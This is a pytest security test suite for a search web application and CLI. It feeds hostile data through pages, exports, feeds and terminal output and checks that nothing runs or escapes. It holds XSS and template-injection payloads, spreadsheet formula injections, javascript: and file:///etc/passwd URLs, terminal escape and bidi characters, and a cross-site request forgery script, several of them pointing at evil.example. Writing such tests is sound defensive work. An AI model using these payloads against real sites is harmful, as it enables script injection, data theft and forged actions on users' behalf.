"""Hostile reports, file names and queries: nothing of them runs, steers or escapes anywhere."""

import contextlib
import csv
import datetime
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from urllib.parse import quote, urlsplit

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from lxml import etree

import baogao
from index.errors import OperatorError
from index.operations.build import build
from index.report import Report
from search.views.citation import csl_item
from tests import forked_commands
from web.highlight_html import without_controls
from web.server.app import create_app

SCRIPT = "<script>window.pwned=1</script>"
PAYLOADS = (
    SCRIPT,
    '"><img src=x onerror="window.pwned=2">',
    "'><svg/onload=window.pwned=3>",
    "</title></textarea></style>" + SCRIPT,
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "javascript:window.pwned=4",
    "<iframe srcdoc='<script>parent.pwned=5</script>'>",
    "<form action=https://evil.example/><input name=q>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "]]><!--" + SCRIPT,
    "&lt;script&gt;window.pwned=6&lt;/script&gt;",
    '=HYPERLINK("https://evil.example","a")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "－1＋1",
    "\u202egnp.exe\u2066 \u200ftxt",
    "NUL \x00 ESC \x1b[2J\x1b]0;title\x07 BEL",
    "lone \ud800 surrogate \udfff of 農村",
    "\u2028window.pwned=7\u2029",
)
NAMES = (
    b"<img src=x onerror=window.pwned=8>.txt",
    b"quote\"'&.txt",
    b"\x1b[31mred.txt",
    b"line\nbreak.txt",
    b"\xff\xfe.txt",
    "\u202efdp.txt".encode(),
    b"=cmd.txt",
    b"javascript:window.pwned=9.txt",
    b"odd\x1b[2J\xff.kind",
)
URLS = (
    "javascript:window.pwned=10",
    "JaVaScRiPt:window.pwned=10",
    "data:text/html,<script>window.pwned=11</script>",
    "vbscript:msgbox(1)",
    "//evil.example/a",
    'http://evil.example/" onmouseover="window.pwned=12',
    "https://evil.example/<script>",
    "file:///etc/passwd",
)
PAGES = (
    "/",
    "/search?q={}",
    "/search?q=%22{}%22",
    "/search?q=title:{}&source={}&from=2023",
    "/search?also={}&not-editor={}&sort=newest",
    "/search?q=common&page=2",
    "/trend?q={}",
    "/concordance?q={}",
    "/words?q={}",
    "/phrase?q={}&with={}",
    "/phrases?source={}",
    "/compare?q={}",
    "/batch?q={}",
    "/trace?q={}",
    "/earlier?id={}",
    "/cite?id={}",
    "/report/{}",
    "/kept?{}",
    "/help?q={}",
    "/no/such/{}",
    "/search?page={}",
    "/search?from={}&lang={}",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An index whose every report is hostile in every field, by field, by name and by page."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "corpus"
    corpus.mkdir()
    lines = []
    for number, text in enumerate(PAYLOADS):
        fields = dict.fromkeys(("title", "source", "author", "editor", "issuer", "number"), text)
        url = URLS[number % len(URLS)]
        fields |= {"id": f"p{number}", "body": f"common {text}\n{text}", "url": url}
        lines.append(json.dumps(fields | {"date": "2023-02-09", "keywords": [text]}))
    lines.append(json.dumps({"id": f"<{SCRIPT}>", "title": "odd id", "body": "common"}))
    lines.append(json.dumps({"id": "../../etc/passwd", "title": "path id", "body": "common"}))
    lines += [json.dumps({"id": "\ud800", "title": "half an id", "body": "common"})] * 2
    lines.append(json.dumps({"id": "a\nb", "title": "an id of two lines", "body": "common"}))
    (corpus / "export.jsonl").write_text("\n".join(lines), "utf-8")
    for name in NAMES:
        with open(os.path.join(os.fsencode(corpus), name), "wb") as file:  # noqa: PTH118, PTH123 - bytes
            file.write("common 坏名字的文件\n".encode())
    page = f"<title>{SCRIPT}</title><h1>A page</h1><p>common {'text ' * 40}{SCRIPT}<p onclick=a()>b"
    (corpus / "page.html").write_text(page, "utf-8")
    build([str(corpus)], str(folder / "index"))
    return folder


@pytest.fixture(scope="module")
def room(hostile):
    app = create_app(str(hostile / "index"))
    yield app.test_client()
    app.extensions["baogao"].index_manager.close()


def escaped(text):
    return quote(text, safe="", errors="surrogatepass")


def every_hit(room):
    return room.get("/api/search?q=common&size=100").get_json()["hits"]


def test_every_hostile_report_is_indexed_and_found(room):
    assert len(every_hit(room)) >= len(PAYLOADS) + 2


def addresses():
    for page in PAGES:
        for payload in PAYLOADS if "{}" in page else [""]:
            yield page.replace("{}", escaped(payload))


def test_no_page_holds_an_element_or_attribute_of_a_payload(room):
    for address in addresses():
        answer = room.get(address)
        assert answer.status_code < 500, address
        page = BeautifulSoup(answer.get_data(as_text=True), "lxml")
        wrong = [
            tag for tag in page.select("*") if any(name.startswith("on") for name in tag.attrs)
        ]
        scripts = [tag for tag in page.find_all("script") if tag.get_text() or not tag.get("src")]
        links = [
            tag.get("href") or tag.get("action") for tag in page.find_all(["a", "form", "base"])
        ]
        assert wrong == [], address
        assert scripts == [], address
        assert page.find_all(["iframe", "object", "embed", "base"]) == [], address
        assert page.find_all("meta", attrs={"http-equiv": "refresh"}) == [], address
        assert all(urlsplit(link or "").scheme in {"", "http", "https"} for link in links), address
        assert "49" not in re.findall(r"\b\d+\b", page.get_text()) or "{{" not in address


def test_the_link_of_every_hit_leads_to_its_report(room):
    page = BeautifulSoup(room.get("/search?q=common&size=100").get_data(as_text=True), "lxml")
    links = {link["href"] for link in page.select("a[href^='/report/']")}

    assert len(links) >= len(PAYLOADS)
    assert [link for link in links if room.get(link).status_code != 200] == []


def test_every_report_page_links_only_to_web_addresses_and_marks_them(room):
    for hit in every_hit(room):
        page = BeautifulSoup(
            room.get(f"/report/{escaped(hit['id'])}").get_data(as_text=True), "lxml"
        )
        for link in page.find_all("a", href=True):
            parts = urlsplit(link["href"])
            if parts.netloc:
                assert parts.scheme in {"http", "https"}
                assert {"noopener", "noreferrer", "external"} <= set(link.get("rel", []))


def test_no_answer_of_any_kind_holds_a_character_that_steers(room):
    steering = re.compile("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")
    for path in (
        "/",
        "/search?q=common&size=100",
        "/feed.atom?q=common",
        "/report/p18",
        "/report/p19",
    ):
        assert not steering.search(room.get(path).get_data(as_text=True)), path


def test_json_is_valid_json_in_valid_utf_8_of_its_own_type(room):
    for payload in PAYLOADS:
        answer = room.get(f"/api/search?q={escaped(payload)}")
        json.loads(answer.get_data().decode("utf-8"))
        assert answer.content_type.startswith("application/json")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_no_cell_of_a_csv_is_a_formula(room):
    answer = room.get("/export.csv?q=common")
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))

    assert len(rows) > len(PAYLOADS)
    assert not [cell for row in rows for cell in row if re.match(r"[\s\x00]*[=+\-@＝＋－＠]", cell)]
    assert "attachment" in answer.headers["Content-Disposition"]


def test_a_workbook_holds_no_formula_and_is_valid_xml(room):
    with zipfile.ZipFile(io.BytesIO(room.get("/export.xlsx?q=common").get_data())) as book:
        for name in book.namelist():
            tree = etree.fromstring(book.read(name))
            assert not tree.findall(".//{*}f")


def test_a_feed_is_valid_xml_whatever_is_in_it(room):
    for payload in PAYLOADS:
        feed = etree.fromstring(room.get(f"/feed.atom?q=common+{escaped(payload)}").get_data())
        assert feed.tag.endswith("feed")
        assert all(
            not link.get("href").lower().startswith("javascript")
            for link in feed.findall(".//{*}link")
        )
    json.loads(room.get("/feed.json?q=common").get_data())


# In the terminal


def shell(hostile, *arguments):
    run = forked_commands.run(*arguments, folder=hostile)
    return run.returncode, run.stdout + run.stderr


def steers(text):
    """Characters that would steer a terminal; line breaks are ours."""
    return {char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Cs"}} - {"\n"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_search_in_the_terminal_shows_nothing_that_steers_it(hostile, payload):
    asked = ["search", f"common {payload}", "--index", str(hostile / "index")]
    done = CliRunner().invoke(baogao.baogao, asked)

    assert done.exit_code in {0, 1}
    assert not steers(done.output)


STEERING = (
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u202egnp\u2066",
    "a\u200b\u00adb",
    "\udcff",
    "\U000e0041",
)
ASKED = ("{}", "common {}", "kind:{}", "date:2023{}", "source:{}", "title:{} OR", "{}~ {}*")
LED_BY = {
    "ris": ("/export.ris", r"^UR  - (.*)$"),
    "bib": ("/export.bib", r"^  url = \{(.*)\},$"),
    "feed": ("/feed.json", r'"external_url": ?"([^"]*)"'),
    "atom": ("/feed.atom", r'rel="via" href="([^"]*)"'),
}
"""Files whose programs open an address that stands in a field of its own."""


@pytest.mark.parametrize("name", LED_BY)
def test_no_file_gives_an_address_that_is_no_page_of_the_web(room, name):
    path, pattern = LED_BY[name]
    text = room.get(f"{path}?q=common").get_data(as_text=True)
    addresses = re.findall(pattern, text.replace("\r", ""), re.MULTILINE)

    assert addresses
    assert [url for url in addresses if not url.startswith(("http://", "https://"))] == []


@pytest.mark.parametrize("url", URLS)
def test_an_item_for_a_reference_manager_leads_to_the_web_or_nowhere(url):
    item = csl_item(Report(id="a", title="t", url=url), datetime.date(2024, 2, 1))

    assert item.get("URL", "http").startswith("http")
    assert ("URL" in item) is ("accessed" in item) is (item["type"] == "webpage")


SHOWING = (
    ("search",),
    ("search", "--json"),
    ("explain",),
    ("explain", "--json"),
    ("phrases",),
    ("phrases", "--json"),
)


@pytest.mark.parametrize("command", SHOWING, ids=" ".join)
def test_no_command_repeats_what_steers_a_terminal(hostile, command):
    index = ["--index", str(hostile / "index")]
    shown = {}
    for query in (asked.replace("{}", text) for asked in ASKED for text in STEERING):
        done = CliRunner().invoke(baogao.baogao, [*command, *index, "--", query])
        shown[query] = (done.exit_code in {0, 1}, steers(done.output))

    assert {query: why for query, why in shown.items() if why != (True, set())} == {}


MAKING = (
    ("check", "--index", "{}"),
    ("backup", "--index", "index", "{}.tar"),
    ("desk", "export", "--index", "index", "{}.json"),
    ("desk", "import", "--index", "index", "{}.json"),
    ("restore", "--index", "index", "{}.tar"),
    ("index", "--index", "index2", "{}"),
    ("read", "{}"),
    ("trace", "--index", "index", "{}"),
    ("rollback", "--index", "index", "--to", "{}"),
    ("mcp", "--site", "http://{}["),
    ("search", "a", "{}"),
    ("search", "--{}", "a"),
    ("search", "--sort", "{}", "a"),
    ("{}",),
    ("--{}",),
    ("read", "a", "{}"),
)


@pytest.mark.parametrize("command", MAKING, ids=" ".join)
def test_no_command_repeats_a_name_that_steers_a_terminal(hostile, tmp_path, monkeypatch, command):
    (tmp_path / "index").symlink_to(hostile / "index")
    monkeypatch.chdir(tmp_path)
    for text in STEERING:
        arguments = [part.replace("{}", text) for part in command]
        done = CliRunner().invoke(baogao.baogao, arguments)

        assert not steers(done.output)
        assert isinstance(done.exception, (OperatorError, OSError, SystemExit, type(None)))


def test_a_search_for_broken_utf_8_ends_in_a_sentence(hostile):
    code, message = shell(hostile, "search", b"common \xed\xa0\x80 \xff", "--index", "index")

    assert code in {0, 1}
    assert not steers(message)
    assert "Traceback" not in message


def test_what_was_skipped_is_listed_without_steering_the_terminal(hostile, tmp_path):
    code, message = shell(hostile, "index", str(hostile / "corpus"), "--index", str(tmp_path / "i"))

    assert code == 1
    assert "skipped" in message
    assert not steers(message)
    assert "Traceback" not in message


@pytest.mark.parametrize("name", [NAMES[2], NAMES[4], NAMES[8]])
def test_reading_a_file_with_a_hostile_name_shows_nothing_that_steers(hostile, name):
    _, message = shell(hostile, "read", os.fsencode(hostile / "corpus") + b"/" + name)

    assert not steers(message)
    assert "Traceback" not in message


# In a real browser


@pytest.fixture(scope="module")
def hostile_address(hostile):
    server = subprocess.Popen(
        [
            sys.executable,
            "-u",
            "-m",
            "baogao",
            "web",
            "--index",
            str(hostile / "index"),
            "--port",
            "0",
            "--rate",
            "0",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    with server:
        yield server.stdout.readline().split()[0].rstrip("/")
        server.terminate()


class Watched:
    """A browser page, and everything on it that would betray a payload at work."""

    def __init__(self, context, address):
        self.page, self.address, self.found = context.new_page(), address, []
        self.page.on("dialog", self._dialog)
        self.page.on("console", lambda message: self._console(message.text))
        self.page.on("pageerror", lambda error: self.found.append(f"error {error}"))
        self.page.on("request", lambda request: self._request(request.url))

    def _dialog(self, dialog):
        self.found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _console(self, text):
        # A page that answers 4xx says so in the console; everything else there is a find.
        if "the server responded with a status of 4" not in text:
            self.found.append(f"console {text}")

    def _request(self, url):
        if not url.startswith((self.address + "/", "data:image/svg")):
            self.found.append(f"request {url}")

    def ran(self):
        pwned = self.page.evaluate("window.pwned")
        return self.found + ([f"pwned {pwned}"] if pwned is not None else [])


@pytest.fixture
def watched(browser, hostile_address):
    context = browser.new_context(locale="en-GB")
    yield Watched(context, hostile_address)
    context.close()


@pytest.mark.browser
@pytest.mark.parametrize("page", PAGES)
def test_nothing_of_a_payload_runs_in_chromium(watched, page):
    for payload in (SCRIPT, PAYLOADS[1], PAYLOADS[3], PAYLOADS[11], PAYLOADS[21]):
        watched.page.goto(watched.address + page.replace("{}", escaped(payload)))
        assert watched.ran() == [], (page, payload)


@pytest.mark.browser
def test_no_hostile_report_does_anything_in_chromium(watched, room):
    for hit in every_hit(room):
        watched.page.goto(f"{watched.address}/report/{escaped(hit['id'])}?q=common")
        for link in watched.page.locator("main a:visible").all()[:5]:
            link.hover()
        assert watched.ran() == [], hit["id"]


@pytest.mark.browser
def test_as_you_type_does_nothing_with_a_payload_but_search_for_it(watched):
    watched.page.goto(watched.address + "/search?q=common")
    box = watched.page.get_by_role("searchbox").first
    for payload in PAYLOADS[:8]:
        box.fill(payload)
        watched.page.wait_for_timeout(400)
        assert watched.ran() == [], payload


INJECTIONS = {
    "an inline script": "const s = document.createElement('script');"
    "s.textContent = 'window.pwned=1'; document.body.append(s)",
    "an event handler": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=/none.png onerror=\"window.pwned=2\">')",
    "a script of another site": "const s = document.createElement('script');"
    "s.src = 'https://evil.example/a.js'; document.body.append(s)",
    "a javascript: link": "const a = document.createElement('a');"
    "a.href = 'javascript:window.pwned=3';"
    "document.body.append(a); a.click()",
    "eval": "setTimeout('window.pwned=4', 0)",
    "a style": "document.body.insertAdjacentHTML('beforeend', '<p id=inj style=\"color:red\">a');"
    "window.pwned = getComputedStyle(document.getElementById('inj')).color === 'rgb(255, 0, 0)' "
    "? 5 : undefined",
    "a frame": "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned=6"
    "</' + 'script>'; document.body.append(f)",
    "a form to another site": "const f = document.createElement('form'); f.method = 'post';"
    "f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
}


@pytest.mark.browser
@pytest.mark.parametrize("injection", INJECTIONS)
def test_even_what_got_into_a_page_would_be_stopped_by_its_policy(watched, injection):
    watched.page.goto(watched.address + "/")
    refused = watched.page.expect_console_message(
        lambda message: "Content Security Policy" in message.text
    )
    with contextlib.nullcontext() if injection == "a frame" else refused:
        watched.page.evaluate(INJECTIONS[injection])
    watched.page.wait_for_timeout(200)

    assert watched.page.evaluate("window.pwned") is None
    assert [
        event for event in watched.found if "Content Security Policy" in event
    ] or injection == "a frame"
    assert watched.page.url == watched.address + "/"


@pytest.mark.browser
def test_the_detector_sees_what_runs_where_no_policy_stops_it(watched):
    watched.page.set_content(
        f"<p>a</p>{SCRIPT}<script>alert(1)</script><img src='http://evil.example/'>"
    )

    assert "pwned 1" in watched.ran()
    assert "dialog 1" in watched.found
    assert [
        message for message in watched.found if message.startswith("request http://evil.example")
    ]


@pytest.mark.browser
def test_another_site_cannot_frame_a_page(browser, hostile_address):
    page = browser.new_page()
    page.route(
        "http://frame.example/*",
        lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe src='{hostile_address}/'></iframe>"
        ),
    )
    page.goto("http://frame.example/")
    frame = page.frames[-1]

    assert "baogao" not in frame.content().lower()
    page.close()


FORGED = """async site => {
  const forms = [
    ["/collections", {do: "create", name: "forged"}],
    ["/collections/add", {name: "forged", id: "cDA", do: "save"}],
    ["/collections/add-all?q=common", {name: "forged"}],
    ["/collections/note?id=p0", {name: "forged", do: "add", first_note: "forged"}],
    ["/collections/1", {do: "discard", name: "forged", token: ""}],
    ["/api/collections", {['{"name": "forged", "a']: '": 1}'}],
  ];
  const encodings = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
  const post = (path, fields, enctype) => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = `f${Math.random()}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: site + path, target: frame.name, enctype});
    for (const [name, value] of Object.entries(fields)) {
      const box = document.createElement("input");
      Object.assign(box, {name, value});
      form.append(box);
    }
    if (path === "/collections" && enctype === encodings[1]) {
      const file = document.createElement("input");
      Object.assign(file, {type: "file", name: "file"});
      const data = new DataTransfer();
      data.items.add(new File(['{"format": "baogao-collections", "version": 1, "collections": '
        + '[{"name": "forged", "items": []}]}'], "c.json"));
      file.files = data.files;
      form.append(file);
      form.children[0].value = "import";
    }
    document.body.append(form);
    frame.onload = done;
    form.submit();
  });
  for (const [path, fields] of forms)
    for (const enctype of encodings) await post(path, fields, enctype);
  const body = '{"name": "forged"}';
  const options = {method: "post", body, credentials: "include"};
  const send = (path, more) => fetch(site + path, {...options, ...more}).catch(() => 0);
  await send("/api/collections", {mode: "no-cors"});
  await send("/api/collections", {headers: {"Content-Type": "application/json"}});
  const type = {"Content-Type": "text/plain; application/json"};
  await send("/api/collections", {mode: "no-cors", headers: type});
  await send("/collections?do=create&name=forged", {method: "get", body: null, mode: "no-cors"});
  navigator.sendBeacon(site + "/api/collections", new Blob([body], {type: "text/plain"}));
}"""
"""Everything by which a page of another site can make a browser send something: forms in three
encodings, a file, requests of scripts, beacons."""
FOREIGN = {
    "another site": ("http://evil.example/", "<body>"),
    "another port": ("http://127.0.0.1:9/", "<body>"),
    "no origin": (
        "http://evil.example/",
        "<iframe sandbox='allow-scripts allow-forms' srcdoc='<body>'></iframe>",
    ),
}


@pytest.mark.browser
@pytest.mark.parametrize("name", FOREIGN)
def test_no_page_of_another_site_changes_a_collection(browser, hostile_address, name):
    foreign, content = FOREIGN[name]
    page = browser.new_page()
    statuses = set()
    page.on(
        "response",
        lambda answer: answer.request.method == "POST" and statuses.add(answer.status),
    )
    page.route(f"{foreign}**", lambda route: route.fulfill(content_type="text/html", body="<p>"))
    page.goto(foreign)
    page.set_content(content)

    page.frames[-1].evaluate(FORGED, hostile_address)
    page.goto(f"{hostile_address}/api/collections")

    assert json.loads(page.inner_text("body"))["collections"] == []
    assert 403 in statuses
    assert statuses <= {403, 415}
    page.close()


@pytest.mark.browser
def test_reading_needs_and_sets_no_cookie(watched):
    watched.page.goto(watched.address + "/search?q=common")
    watched.page.goto(watched.address + "/report/p0")

    assert watched.page.context.cookies() == []


@pytest.mark.browser
def test_another_site_cannot_load_an_answer_as_a_script_or_an_image(browser, hostile_address):
    page = browser.new_page()
    sources = [f"{hostile_address}{path}" for path in ("/api/search?q=common", "/search?q=common")]
    tags = "".join(
        f"<script src='{source}' onload='window.loaded=1' onerror='window.refused=1'></script>"
        f"<img src='{source}' onload='window.loaded=2'>"
        for source in sources
    )
    page.route(
        "http://other.example/*",
        lambda route: route.fulfill(content_type="text/html", body=tags),
    )
    page.goto("http://other.example/")
    page.wait_for_load_state("load")

    assert page.evaluate("[window.loaded, window.refused]") == [None, 1]
    page.close()


@pytest.mark.browser
def test_the_original_is_opened_without_saying_where_from_and_without_a_way_back(watched):
    asked = []
    watched.page.context.route(
        re.compile(r"https?://evil\.example/"),
        lambda route: (asked.append(route.request.headers), route.fulfill(body="away")),
    )
    watched.page.goto(watched.address + "/report/p6?q=common")
    with watched.page.context.expect_page() as opened:
        watched.page.locator("a.original").click()
    opened.value.wait_for_load_state()

    assert asked
    assert "referer" not in asked[0]
    assert opened.value.evaluate("window.opener") is None


@pytest.mark.browser
@pytest.mark.parametrize("feature", ["camera", "geolocation", "microphone", "payment", "usb"])
def test_a_page_may_not_ask_for_a_device(watched, feature):
    watched.page.goto(watched.address + "/")

    assert watched.page.evaluate(f"document.featurePolicy.allowsFeature('{feature}')") is False
    assert watched.page.evaluate("document.featurePolicy.allowsFeature('fullscreen')") is True


UNPRINTABLE = {*map(chr, range(32)), "\x7f", "\ufffe", "\uffff"} - {"\t", "\n"}
STEERS = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


@pytest.mark.parametrize("block", range(0, 0x10100, 0x400), ids=hex)
def test_a_page_is_rid_of_every_character_that_steers_or_cannot_be_shown(block):
    for char in map(chr, range(block, block + 0x400)):
        kept = char
        if unicodedata.bidirectional(char) in STEERS or char in "\u061c\u200e\u200f":
            kept = ""
        elif char in UNPRINTABLE or unicodedata.category(char) == "Cs":
            kept = "\ufffd"
        assert without_controls(f"“本报”{char}讯") == f"“本报”{kept}讯", hex(ord(char))


ELSEWHERE = [
    "//elsewhere.example/",
    "///elsewhere.example/",
    "/\\elsewhere.example/",
    "//%2Felsewhere.example/",
]


@pytest.mark.parametrize("path", ELSEWHERE)
def test_no_page_links_to_the_site_that_its_path_names(client, path):
    page = client.get(path, buffered=True).get_data(as_text=True)

    for href in re.findall(r'(?:href|action|src)="([^"]*)"', page):
        assert not re.match(r"[/\\\s]{2}", href), href
